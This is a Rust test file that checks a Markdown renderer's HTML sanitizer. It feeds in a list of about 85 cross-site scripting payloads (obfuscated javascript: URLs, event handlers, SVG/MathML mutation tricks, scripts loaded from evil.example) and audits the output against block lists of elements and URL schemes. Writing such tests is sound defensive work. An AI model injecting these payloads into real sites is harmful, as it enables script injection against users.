//! The sanitizer against known attacks: every Markdown input below goes through the
//! `markdown` operation's rendering (and through `max_bytes` cuts of it), and the output is
//! parsed with html5ever's tokenizer to check what a browser would see — no script, style or
//! embedding element, no event-handler or `style` attribute, no URL attribute with a scheme
//! other than http, https or mailto (after entity decoding, case folding and removing the
//! whitespace and control characters a URL parser skips).

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

use crate::markdown::render;
use crate::sanitize::clean;
use crate::truncate::html_head_tail;

/// Elements a preview must never contain.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "select",
    "textarea",
    "svg",
    "math",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "isindex",
    "xmp",
    "plaintext",
    "area",
    "map",
];

/// Attributes whose value a browser treats as a URL.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "background",
    "cite",
    "srcset",
    "data",
    "lowsrc",
    "dynsrc",
    "codebase",
    "longdesc",
    "usemap",
    "manifest",
    "ping",
];

/// What a URL parser sees of `value`: no ASCII whitespace or control characters, lower case.
fn normalized(value: &str) -> String {
    value
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase()
}

/// `value` percent-decoded (lossily).
fn percent_decoded(value: &str) -> String {
    let b = value.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let pair = b.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
        match pair.and_then(|h| u8::from_str_radix(h, 16).ok()) {
            Some(byte) if b[i] == b'%' => {
                out.push(byte);
                i += 3;
            }
            _ => {
                out.push(b[i]);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A scheme a preview may link to, or a relative URL: judged as written and once more
/// percent-decoded.
fn allowed_url(value: &str) -> bool {
    [value.to_owned(), percent_decoded(value)].iter().all(|v| {
        let v = normalized(v);
        let Some(colon) = v.find(':') else { return true };
        let scheme = &v[..colon];
        let is_scheme = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
        !is_scheme || matches!(scheme, "http" | "https" | "mailto")
    })
}

#[derive(Default)]
struct Audit {
    problems: RefCell<Vec<String>>,
    attributes: RefCell<Vec<(String, String)>>,
}

impl TokenSink for Audit {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let Token::TagToken(tag) = token else { return TokenSinkResult::Continue };
        if tag.kind != TagKind::StartTag {
            return TokenSinkResult::Continue;
        }
        let mut problems = self.problems.borrow_mut();
        let name: &str = &tag.name;
        if FORBIDDEN_ELEMENTS.contains(&name) {
            problems.push(format!("element <{name}>"));
        }
        for attr in &tag.attrs {
            let attr_name = match &attr.name.prefix {
                Some(p) => format!("{}:{}", &**p, &*attr.name.local),
                None => attr.name.local.to_string(),
            };
            let value = attr.value.to_string();
            let lower = attr_name.to_ascii_lowercase();
            if lower.starts_with("on") {
                problems.push(format!("event handler {attr_name}={value:?}"));
            }
            if lower == "style" || lower == "srcdoc" {
                problems.push(format!("attribute {attr_name}"));
            }
            if URL_ATTRIBUTES.contains(&lower.as_str()) && !allowed_url(&value) {
                problems.push(format!("URL {attr_name}={value:?}"));
            }
            let v = normalized(&percent_decoded(&value));
            if v.contains("javascript:") || v.contains("vbscript:") || v.contains("data:") {
                problems.push(format!("script URL text in {attr_name}={value:?}"));
            }
            self.attributes.borrow_mut().push((attr_name, value));
        }
        // Parse on as a browser would if one slipped through.
        match name {
            "script" => TokenSinkResult::RawData(RawKind::ScriptData),
            "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript" => {
                TokenSinkResult::RawData(RawKind::Rawtext)
            }
            "textarea" | "title" => TokenSinkResult::RawData(RawKind::Rcdata),
            "plaintext" => TokenSinkResult::Plaintext,
            _ => TokenSinkResult::Continue,
        }
    }
}

/// What is wrong with `html` as a browser would parse it (empty when it is safe), and every
/// attribute it has.
fn audit(html: &str) -> (Vec<String>, Vec<(String, String)>) {
    let tokenizer = Tokenizer::new(Audit::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    let mut problems = tokenizer.sink.problems.into_inner();
    if html.to_ascii_lowercase().contains("<script") {
        problems.push("the text <script".to_owned());
    }
    (problems, tokenizer.sink.attributes.into_inner())
}

/// Markdown (with raw HTML) that tries to run script or escape the sanitizer.
pub const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\" onload='y'>",
    "<img src=\"x\" alt=\"\\\" onerror=\\\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "[x](https://e.com \"title\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://e.com 'a\" onclick=\"alert(1)')",
    "[x](https://e.com (\"><script>alert(1)</script>))",
    "![a\" onerror=\"alert(1)](x.png)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style><p>after</p>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"color:red\">x</p>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"x.swf\"><param name=x value=y><embed src=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<form action=\"javascript:alert(1)\"><input type=submit value=go></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=\"javascript:/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<a href=\"#\" id=\"x\" name=\"y\" target=\"_top\">x</a>",
    "<body onload=alert(1)>",
    "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"java&#0000115cript:alert(1)\">x</a>",
    "<a href=\"javas&NewLine;cript:alert(1)\">x</a>",
    "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>\n- [x] <a href=javascript:alert(1)>t</a>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> heading",
    "> <iframe src=javascript:alert(1)>",
];

#[test]
fn no_attack_survives_rendering() {
    let mut failed = Vec::new();
    for attack in ATTACKS {
        let html = render(attack).unwrap().html;
        let (problems, _) = audit(&html);
        if !problems.is_empty() {
            failed.push(format!("{attack:?}\n  -> {html:?}\n  {problems:?}"));
        }
        assert_eq!(clean(&html), html, "sanitizing is stable on {attack:?}");
    }
    assert!(failed.is_empty(), "unsafe output:\n{}", failed.join("\n"));
}

#[test]
fn the_audit_catches_what_it_looks_for() {
    // The checker itself must fail on unsafe markup, or the test above proves nothing.
    for unsafe_html in [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"  JAVASCRIPT:x\">x</a>",
        "<p style=\"x\">x</p>",
        "<iframe></iframe>",
        "<img src=\"data:image/png,x\">",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"jav%09ascript:x\">x</a>",
        "<svg></svg>",
    ] {
        assert!(!audit(unsafe_html).0.is_empty(), "{unsafe_html}");
    }
    assert!(
        audit("<a href=\"https://e.com\" rel=\"noopener noreferrer\">x</a><img src=a.png>")
            .0
            .is_empty()
    );
    assert!(audit("<a href=\"docs/a:b\">x</a>").0.is_empty(), "a colon after a slash is a path");
}

#[test]
fn links_carry_rel_and_keep_text() {
    let html =
        render("[x](https://e.com) <a href=\"/y\">y</a> [z](javascript:alert(1))").unwrap().html;
    let (_, attributes) = audit(&html);
    let rels = attributes.iter().filter(|(n, v)| n == "rel" && v == "noopener noreferrer").count();
    assert_eq!(rels, 3, "{html}");
    assert!(html.contains(">z</a>"), "the link text stays: {html}");
    // An autolink to a script URL keeps its text, as text only.
    let html = render("<javascript:alert(1)>").unwrap().html;
    assert_eq!(html, "<p><a rel=\"noopener noreferrer\">javascript:alert(1)</a></p>\n");
}

#[test]
fn raw_html_keeps_only_harmless_markup() {
    assert_eq!(render("<b onclick=x>bold</b>").unwrap().html, "<p><b>bold</b></p>\n");
    // What is left of the split tags spells `<script>`, as escaped text.
    assert_eq!(
        render("<scr<script>ipt>alert(1)</scr</script>ipt>").unwrap().html,
        "<p>&lt;script&gt;</p>\n"
    );
    assert_eq!(render("<!--[if IE]><script>alert(1)</script><![endif]-->").unwrap().html, "");
}

#[test]
fn cuts_of_every_attack_stay_safe() {
    // Each attack rendered on its own (in one document, the MathML comment trick hides
    // everything after it, which is safe but leaves little to cut).
    let html = ATTACKS.iter().map(|a| render(a).unwrap().html).collect::<String>().repeat(3);
    assert!(html.len() > 4000, "{}", html.len());
    let mut max = 40;
    while max < html.len() {
        let cut = html_head_tail(&html, max).unwrap();
        assert!(cut.len() <= max, "{max}: {}", cut.len());
        let (problems, _) = audit(&cut);
        assert!(problems.is_empty(), "{max}: {problems:?}\n{cut}");
        max += 37;
    }
}

/// Real READMEs (those under `~/.cargo/registry/src`, at most `PREVIEW_README_LIMIT`, 300 by
/// default) through the markdown operation, a cut of it, and the html summary of the result:
/// nothing panics and every output passes the audit. Run by hand:
/// `cargo test -p toolhost-tool-workspace-preview real_readmes -- --ignored --nocapture`.
#[test]
#[ignore]
fn real_readmes() {
    let home = std::env::var("HOME").unwrap();
    let limit: usize =
        std::env::var("PREVIEW_README_LIMIT").ok().and_then(|v| v.parse().ok()).unwrap_or(300);
    let mut paths = Vec::new();
    for index in std::fs::read_dir(format!("{home}/.cargo/registry/src")).unwrap().flatten() {
        for krate in std::fs::read_dir(index.path()).unwrap().flatten() {
            let readme = krate.path().join("README.md");
            if readme.is_file() {
                paths.push(readme);
            }
        }
    }
    paths.sort();
    paths.truncate(limit);
    assert!(!paths.is_empty(), "no README.md under ~/.cargo/registry/src");
    let start = std::time::Instant::now();
    let (mut largest, mut largest_path, mut total_in) = (0, String::new(), 0);
    let mut slowest = (std::time::Duration::ZERO, String::new());
    for path in &paths {
        let Ok(text) = std::fs::read_to_string(path) else { continue };
        let one = std::time::Instant::now();
        let html = match render(&text) {
            Ok(r) => r.html,
            Err(f) => panic!("{}: {}", path.display(), f.message),
        };
        let took = one.elapsed();
        if took > slowest.0 {
            slowest = (took, path.display().to_string());
        }
        total_in += text.len();
        if html.len() > largest {
            (largest, largest_path) = (html.len(), path.display().to_string());
        }
        let (problems, _) = audit(&html);
        assert!(problems.is_empty(), "{}: {problems:?}", path.display());
        if let Some(cut) = html_head_tail(&html, 4096) {
            assert!(cut.len() <= 4096 && audit(&cut).0.is_empty(), "{}", path.display());
        }
        let _ = crate::outline::summarize(&html).render();
    }
    eprintln!(
        "{} READMEs ({total_in} bytes) in {:?}; largest output {largest} bytes ({largest_path}); \
         slowest {:?} ({})",
        paths.len(),
        start.elapsed(),
        slowest.0,
        slowest.1
    );
}

#[test]
fn one_document_of_every_attack_keeps_its_safe_part() {
    let doc = format!(
        "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```rust\nfn main() {{}}\n```\n\n\
         [safe](https://example.com/page) [rel](docs/x.md)\n\n{}",
        ATTACKS.join("\n\n")
    );
    let html = render(&doc).unwrap().html;
    assert!(audit(&html).0.is_empty(), "{:?}", audit(&html).0);
    for kept in [
        "<h1>Title</h1>",
        "<table>",
        "[x] done",
        "fn main() {}",
        "https://example.com/page",
        "docs/x.md",
    ] {
        assert!(html.contains(kept), "{kept}: {html}");
    }
}
